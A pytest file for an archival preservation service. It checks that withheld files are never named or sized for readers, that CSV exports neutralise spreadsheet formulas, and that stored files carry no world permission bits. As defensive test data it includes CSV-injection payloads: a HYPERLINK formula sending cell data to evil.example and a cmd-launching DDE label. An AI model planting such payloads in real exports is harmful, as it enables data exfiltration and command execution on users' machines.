"""Access rules that hold (issue "Hostile input and hostile users", part D).

1. A requester never learns the name, reason or legal basis of a file withheld from them: a count only.
2. CSV written for people (a DIP's ``metadata.csv``, the CSV event export) never starts a cell with a
   spreadsheet formula.
3. What Kho writes (stored copies, the catalog, DIPs and their sidecars) is 0640 / 0750 whatever the umask.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import stat
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from fastapi.testclient import TestClient

from preservation.api import create_app
from preservation.catalog import Catalog, Event
from preservation.config import load_settings
from preservation.dip import _write_metadata_csv
from preservation.export import export_events, spreadsheet_safe
from storage_adapters import local
from storage_adapters.local import LocalStorage
from tests.conftest import FIXTURE_SIPS, json_lines, run_kho
from tests.helpers import rewrite_manifest
from tests.stored import object_dir

READER = "reader-hardening-7f3a9c2e5b1d4a6f0e8c"
ARCHIVIST = "archivist-hardening-5c1e9a3f7d2b8e4a9"
ADMIN = "admin-hardening-9d4b2f8a1e6c3a7b5d2e"
FORMULA_REQUESTER = "@SUM(1+1)"  # a display name is typed by someone too
TOKENS = {
    READER: ("Nguyễn Thị Mai", "reader"),
    ARCHIVIST: ("Trần Văn Bình", "archivist"),
    ADMIN: (FORMULA_REQUESTER, "administrator"),
}
SECRET_FILE = "Phương án phòng thủ khu vực.txt"
SECRET_STEM = "Phương án phòng thủ"
SECRET_BASIS = "Quyết định mật số 7/QĐ-BCH"
# bag-info values that a spreadsheet would run (bag-info.txt cannot carry a leading TAB or CR: see the unit test)
FORMULAS = {
    "keyword": '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")',
    "External-Description": "+1",
    "Internal-Sender-Identifier": "-1+2",
    "X-Ghi-Chu": "@SUM(1+1)",
}
UNSAFE = ["=HYPERLINK(\"http://evil.example\")", "+1", "-1+2", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
          "\uff1d1+1"]
SAFE = ["Hồ sơ về việc khánh thành", "1", "", "a=b", " =1", "'=1", "H40.2024.01-VP"]


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@dataclass
class Hardened:
    home: Path
    aip_id: str
    client: TestClient


@pytest.fixture(scope="module")
def hardened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hardened]:
    """A public dossier holding one confidential file (with a telling name and a classified basis) and bag-info
    values that are spreadsheet formulas, ingested and disseminated under a umask of 0000."""
    base = tmp_path_factory.mktemp("hardening")
    home = base / "kho-home"
    previous = os.umask(0o000)
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("KHO_HOME", str(home))
            for name in ("KHO_STORAGE", "KHO_DATABASE_URL", "KHO_INGEST_DIR", "KHO_DUPLICATES", "KHO_DIGESTS",
                         "KHO_FAULT", "KHO_API_TOKENS"):
                patch.delenv(name, raising=False)
            sip = shutil.copytree(FIXTURE_SIPS / "hoso-2024-ubnd-01", base / "sips" / "hoso-2024-ubnd-01")
            (sip / "data" / SECRET_FILE).write_text("Nội dung mật.\n", encoding="utf-8")
            (sip / "access-rules.csv").write_text(
                "path,mode,embargo_until,basis\n"
                f"data/{SECRET_FILE},03,,{SECRET_BASIS}\n", encoding="utf-8")
            info = sip / "bag-info.txt"
            info.write_text(info.read_text(encoding="utf-8")
                            + "".join(f"{label}: {value}\n" for label, value in FORMULAS.items()), encoding="utf-8")
            rewrite_manifest(sip)
            _declare_payload_oxum(sip)
            aip_id = str(json.loads(run_kho("ingest", str(sip), "--json", check=True).stdout)["aip_id"])
            app = create_app(load_settings({"KHO_HOME": str(home)}), tokens=TOKENS)
            with TestClient(app) as client:
                yield Hardened(home, aip_id, client)
    finally:
        os.umask(previous)


def _declare_payload_oxum(bag: Path) -> None:
    """Add Payload-Oxum (bytes.files of the whole payload, the confidential file included) to bag-info.txt
    and update the tag manifest: a reader must not be able to subtract what they receive from it."""
    files = [p for p in (bag / "data").rglob("*") if p.is_file()]
    with open(bag / "bag-info.txt", "a", encoding="utf-8") as info:
        info.write(f"Payload-Oxum: {sum(p.stat().st_size for p in files)}.{len(files)}\n")
    manifest = bag / "tagmanifest-sha256.txt"
    lines = []
    for line in manifest.read_text(encoding="utf-8").splitlines():
        name = line.split(None, 1)[1]
        lines.append(f"{hashlib.sha256((bag / name).read_bytes()).hexdigest()}  {name}\n")
    manifest.write_text("".join(lines), encoding="utf-8")


def _secret_in(text: str) -> bool:
    return SECRET_STEM in text or SECRET_BASIS in text or "BCH" in text


# -- 1. withheld files are counted, never named ---------------------------------------------------------


@pytest.mark.parametrize("token", [READER, ARCHIVIST])
def test_no_name_or_basis_of_a_withheld_file_reaches_a_reader_or_an_archivist(hardened: Hardened, token: str) -> None:
    client = hardened.client
    detail = client.get(f"/aips/{hardened.aip_id}", headers=auth(token))
    assert detail.status_code == 200, detail.text
    assert detail.json()["withheld_count"] >= 1 and not _secret_in(detail.text)

    made = client.post(f"/aips/{hardened.aip_id}/dips", headers=auth(token), json={"purpose": "01 nghiên cứu"})
    assert made.status_code == 201, made.text
    dip = made.json()
    assert dip["withheld_count"] >= 1 and not _secret_in(made.text)
    assert {"withheld", "withheld_files"}.isdisjoint(dip)

    download = client.get(dip["download_url"], headers=auth(token))
    assert download.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(download.content))
    for name in archive.namelist():
        assert not _secret_in(name)
        assert not _secret_in(archive.read(name).decode("utf-8", "replace")), name
    top = dip["dip_name"]
    withheld = list(csv.DictReader(io.StringIO(archive.read(f"{top}/withheld.csv").decode("utf-8"))))
    assert [row["withheld_files"] for row in withheld] == [str(dip["withheld_count"])]
    index = archive.read(f"{top}/index.html").decode("utf-8")
    assert f"withheld ({dip['withheld_count']})" in index


def test_the_event_trail_names_withheld_files_by_identifier_only(hardened: Hardened) -> None:
    hardened.client.post(f"/aips/{hardened.aip_id}/dips", headers=auth(READER), json={"purpose": "01"})
    events = json_lines(hardened.client.get("/events", params={"aip_id": hardened.aip_id, "format": "json"},
                                            headers=auth(ARCHIVIST)).text)
    disseminations = [e for e in events if e["event_type"] == "dissemination"]
    assert disseminations
    for event in disseminations:
        assert "withheld (objects " in str(event["outcome_detail"])
        assert not _secret_in(json.dumps(event, ensure_ascii=False))


@pytest.mark.parametrize("token", [READER, ARCHIVIST])
def test_sizes_and_counts_cover_only_what_the_requester_may_receive(hardened: Hardened, token: str) -> None:
    """total_bytes counted every original: a reader subtracting the sizes of the files they receive learnt
    the withheld file's exact size. Payload-Oxum in bag-info told the same, and was searchable."""
    client = hardened.client
    admin = client.get(f"/aips/{hardened.aip_id}", headers=auth(ADMIN)).json()
    secret = next(f for f in admin["files"] if f["role"] == "original" and SECRET_STEM in f["path"])
    all_originals = [f for f in admin["files"] if f["role"] == "original"]
    assert admin["file_count"] == len(all_originals) and admin["total_bytes"] == sum(f["size"] for f in all_originals)
    oxum = admin["bag_info"]["Payload-Oxum"]  # administrators are withheld nothing, the declared size included
    assert oxum == f"{admin['total_bytes']}.{admin['file_count']}"

    detail = client.get(f"/aips/{hardened.aip_id}", headers=auth(token)).json()
    received = [f for f in detail["files"] if f["role"] == "original"]
    assert detail["withheld_count"] >= 1
    assert detail["file_count"] == len(received) == admin["file_count"] - 1
    assert detail["total_bytes"] == sum(f["size"] for f in received) == admin["total_bytes"] - secret["size"]
    assert {"Payload-Oxum", "Bag-Size"}.isdisjoint(detail["bag_info"])

    listed = client.get("/aips", headers=auth(token)).json()["items"]
    [item] = [i for i in listed if i["aip_id"] == hardened.aip_id]
    assert (item["file_count"], item["total_bytes"]) == (detail["file_count"], detail["total_bytes"])
    found = client.get("/aips", params={"q": oxum}, headers=auth(token)).json()
    assert found["total"] == 0, "the declared payload size is not searchable either"
    assert client.get("/aips", params={"q": oxum}, headers=auth(ADMIN)).json()["total"] == 1


def test_an_administrator_still_sees_and_receives_the_confidential_file(hardened: Hardened) -> None:
    detail = hardened.client.get(f"/aips/{hardened.aip_id}", headers=auth(ADMIN)).json()
    assert detail["withheld_count"] == 0 and any(SECRET_STEM in f["path"] for f in detail["files"])
    dip = hardened.client.post(f"/aips/{hardened.aip_id}/dips", headers=auth(ADMIN), json={"purpose": "kiểm tra"})
    assert dip.json()["withheld_count"] == 0 and SECRET_STEM in dip.text


# -- 2. no spreadsheet formulas in CSV ----------------------------------------------------------------------


@pytest.mark.parametrize("value", UNSAFE)
def test_spreadsheet_safe_quotes_formula_starts(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", [*SAFE, 42, None])
def test_spreadsheet_safe_leaves_other_values_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_dip_metadata_csv_from_a_hostile_sip_reads_back_as_text(hardened: Hardened) -> None:
    dip = hardened.client.post(f"/aips/{hardened.aip_id}/dips", headers=auth(ARCHIVIST),
                               json={"purpose": "01"}).json()
    zipped = zipfile.ZipFile(io.BytesIO(hardened.client.get(dip["download_url"], headers=auth(ARCHIVIST)).content))
    rows = _read_csv(zipped.read(f"{dip['dip_name']}/metadata.csv").decode("utf-8"))
    assert rows
    for row in rows:
        for label, value in FORMULAS.items():
            assert row[label] == "'" + value, label
        assert row["title"] == "Hồ sơ về việc khánh thành cầu Cửa Hội", "ordinary text is untouched"
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_metadata_csv_quotes_tab_and_cr_formulas_and_formula_labels(tmp_path: Path) -> None:
    bag_info: dict[str, Any] = {f"field-{n}": value for n, value in enumerate(UNSAFE + SAFE)}
    bag_info["=cmd|' /C calc'!A0"] = "x"
    bag_info["repeated"] = ["=1+1", "b"]
    aip = SimpleNamespace(id="aip-1", bag_info=bag_info)
    delivered = [{"path": "-data/=a.pdf", "puid": "fmt/95", "mime": "application/pdf", "size": 3, "sha256": "ab"}]
    _write_metadata_csv(tmp_path / "metadata.csv", aip, delivered, "administrator")  # type: ignore[arg-type]
    with open(tmp_path / "metadata.csv", encoding="utf-8", newline="") as handle:  # keep a CR in a cell a CR
        [row] = list(csv.DictReader(handle))
    for number, value in enumerate(UNSAFE + SAFE):
        assert row[f"field-{number}"] == spreadsheet_safe(value)
    assert row["file"] == "'-data/=a.pdf" and row["size"] == "3"
    assert row["'=cmd|' /C calc'!A0"] == "x", "a hostile bag-info label is quoted in the header too"
    assert row["repeated"] == "'=1+1; b"


def test_csv_event_export_reads_back_as_text(tmp_path: Path) -> None:
    events = [
        Event(seq=number, id=str(uuid.uuid4()), aip_id="aip-1", object_ids=[value], event_type=value,
              event_datetime=datetime(2025, 1, 1, tzinfo=UTC), detail=value, outcome="success", outcome_detail=value,
              agents=[], prev_hash="0" * 64, hash="1" * 64)
        for number, value in enumerate(UNSAFE + SAFE, start=1)
    ]
    out = io.StringIO(newline="")
    export_events(SimpleNamespace(), None, events, "csv", out)  # type: ignore[arg-type]
    rows = _read_csv(out.getvalue())
    assert len(rows) == len(events)
    for row, value in zip(rows, UNSAFE + SAFE, strict=True):
        for column in ("detail", "outcome_detail", "event_type", "object_ids"):
            assert row[column] == spreadsheet_safe(value), (column, value)
        assert row["seq"].isdigit() and row["hash"] == "1" * 64


def test_csv_event_export_over_the_api_quotes_a_formula_requester(hardened: Hardened) -> None:
    hardened.client.post(f"/aips/{hardened.aip_id}/dips", headers=auth(ADMIN),
                         json={"purpose": '=HYPERLINK("http://evil.example")'})
    text = hardened.client.get("/events", params={"format": "csv"}, headers=auth(ADMIN)).text
    rows = _read_csv(text)
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert any(FORMULA_REQUESTER in row["agents"] for row in rows)


# -- 3. modes: no world bits, whatever the umask ----------------------------------------------------------


def _world_readable(root: Path) -> list[str]:
    found = []
    for path in [root, *root.rglob("*")]:
        if path.is_symlink():
            continue
        mode = stat.S_IMODE(path.stat().st_mode)
        expected = local.DIR_MODE if path.is_dir() else local.FILE_MODE
        if mode & 0o007 or mode != expected:
            found.append(f"{path.relative_to(root.parent)} {mode:o}")
    return found


def test_stored_copies_catalog_and_dips_have_no_world_bits_under_umask_0000(hardened: Hardened,
                                                                            tmp_path: Path) -> None:
    previous = os.umask(0o000)
    try:
        hardened.client.post(f"/aips/{hardened.aip_id}/dips", headers=auth(READER), json={"purpose": "01"})
        run_kho("dip", hardened.aip_id, "--requester", "Nguyễn Thị Mai", "-o", str(tmp_path / "cli-dips"),
                env={"KHO_HOME": str(hardened.home)}, check=True)
    finally:
        os.umask(previous)
    assert not _world_readable(object_dir(hardened.home / "storage", hardened.aip_id))
    assert not [p for p in (hardened.home / "storage").iterdir() if stat.S_IMODE(p.stat().st_mode) & 0o007]
    dips = hardened.home / "dips"
    assert list(dips.glob("DIP-*.zip")) and list(dips.glob("DIP-*.json")) and list(dips.glob("DIP-*/"))
    assert not _world_readable(dips)
    assert not _world_readable(tmp_path / "cli-dips")
    catalog_files = list(hardened.home.glob("catalog.sqlite*"))
    assert catalog_files
    for path in catalog_files:
        assert stat.S_IMODE(path.stat().st_mode) == local.FILE_MODE, path


@pytest.fixture(params=[0o000, 0o022, 0o077])
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    previous = os.umask(request.param)
    try:
        yield int(request.param)
    finally:
        os.umask(previous)


def test_local_storage_modes_do_not_depend_on_the_umask(umask: int, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    source = tmp_path / "source"
    source.mkdir()
    small = source / "small.txt"
    small.write_text("nhỏ\n", encoding="utf-8")
    large = source / "large.bin"
    large.write_bytes(os.urandom(300_000))
    monkeypatch.setattr(local, "PIPELINE_BYTES", 100_000)  # the read-back-while-copying path too
    monkeypatch.setattr(local, "PIPELINE_STEP", 64 * 1024)
    import hashlib

    def sha(path: Path) -> str:
        return hashlib.sha256(path.read_bytes()).hexdigest()

    storage = LocalStorage(tmp_path / "store" / "root")
    storage.put("aip/one/small.txt", small)
    storage.store_many([("aip/two/ảnh/small.txt", small, sha(small)), ("aip/two/large.bin", large, sha(large))])
    storage.init()
    assert storage.check()["writable"] is True
    (tmp_path / "out").mkdir(mode=0o755)
    os.chmod(tmp_path / "out", 0o755)
    storage.get("aip/two/large.bin", tmp_path / "out" / "large.bin")
    assert not _world_readable(tmp_path / "store")
    assert stat.S_IMODE((tmp_path / "out" / "large.bin").stat().st_mode) == local.FILE_MODE
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o755, "folders that exist are left alone"


def test_catalog_file_mode_does_not_depend_on_the_umask(umask: int, tmp_path: Path) -> None:
    database = tmp_path / "home" / "catalog.sqlite"
    catalog = Catalog(f"sqlite:///{database}")
    try:
        catalog.list_aips()
        files = list(database.parent.glob("catalog.sqlite*"))
        assert database in files
        for path in files:
            assert stat.S_IMODE(path.stat().st_mode) == local.FILE_MODE, (path, oct(umask))
    finally:
        catalog.close()
    existing = tmp_path / "existing.sqlite"
    existing.touch()
    os.chmod(existing, 0o600)
    Catalog(f"sqlite:///{existing}").close()
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600, "an existing catalog keeps the mode it was given"

